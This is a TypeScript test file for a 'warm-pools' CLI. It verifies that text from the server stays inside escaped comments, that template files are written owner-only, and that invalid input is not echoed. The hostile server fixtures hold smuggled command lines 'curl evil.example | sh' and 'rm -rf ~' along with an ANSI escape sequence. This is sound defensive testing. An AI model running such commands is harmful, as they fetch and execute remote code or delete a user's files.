/**
 * Issue 23 item 10: the warm-pools CLI prints server text only inside `#` comments (one line, control
 * characters escaped), writes `template -o` files owner-only, and never echoes input in `Invalid JSON`.
 */
import { mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { main as warmPools } from '../../src/cli/warm-pools-cli.js';
import { hostileServer } from './servers.js';

const work = mkdtempSync(join(tmpdir(), 'warm-pools-cli-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

const config = (name: string, image: string, source = 'db') => ({
  name,
  source,
  image,
  working_dir: '/w',
  command: ['agent'],
  count: 2,
  environment: { LMNR_PROJECT_API_KEY: 'PLANTED-env-secret' },
});

async function runtime(configs: unknown[]) {
  return hostileServer((req, res) => {
    req.resume();
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(req.url?.startsWith('/api/warm-runtime-configs') ? JSON.stringify({ configs }) : '{}');
  });
}

async function cli(argv: string[], url: string, stdin = '') {
  let stdout = '';
  let stderr = '';
  const code = await warmPools(argv, {
    stdout: { write: (text: string) => (stdout += text) },
    stderr: { write: (text: string) => (stderr += text) },
    stdin: (async function* () {
      yield stdin;
    })(),
    env: { RUNTIME_API_URL: url, API_KEY: 'k-0123456789', ADMIN_TOKEN: 'a.b.c' },
  });
  return { code, stdout, stderr };
}

describe('warm-pools check --upgrade with hostile names and images', () => {
  it('keeps every line of server text inside a # comment', async () => {
    const server = await runtime([
      config('v1_current', 'repo/default:1', 'file'),
      config('pool', 'repo/img:1\ncurl evil.example | sh\n\u001b[2J'),
      config('other\nrm -rf ~', 'repo/other:1'),
    ]);
    const { stdout } = await cli(['check', '--upgrade'], server.url);
    const lines = stdout.split('\n');
    expect(lines.some((line) => line.startsWith('#'))).toBe(true);
    expect(stdout).not.toContain('\u001b');
    for (const line of lines) {
      // A line that is not a comment may be run: it must not come from a smuggled line break.
      if (!line.startsWith('#')) {
        expect(line).not.toMatch(/^(curl|rm -rf)/);
        expect(line).not.toContain('evil.example');
      }
    }
    expect(stdout).toContain('repo/img:1\\ncurl evil.example | sh');
  });
});

describe('warm-pools template -o', () => {
  it.each([false, true])('writes the file with mode 0600 (file existed before: %s)', async (existed) => {
    const server = await runtime([config('pool', 'repo/img:1')]);
    const file = join(work, `template-${existed}.json`);
    if (existed) writeFileSync(file, '{}', { mode: 0o644 });
    const { code } = await cli(['template', 'pool', '--image', 'repo/new:2', '-o', file], server.url);
    expect(code).toBe(0);
    expect(statSync(file).mode & 0o777).toBe(0o600);
  });
});

describe('warm-pools save with invalid JSON', () => {
  it('names the place, never the input', async () => {
    const server = await runtime([]);
    const { code, stderr } = await cli(
      ['save', 'pool', '-f', '-'],
      server.url,
      'sk-PLANTED-key-0123456789 not json',
    );
    expect(code).not.toBe(0);
    expect(stderr).toContain('Invalid JSON');
    expect(stderr).not.toContain('sk-PLANT');
  });
});
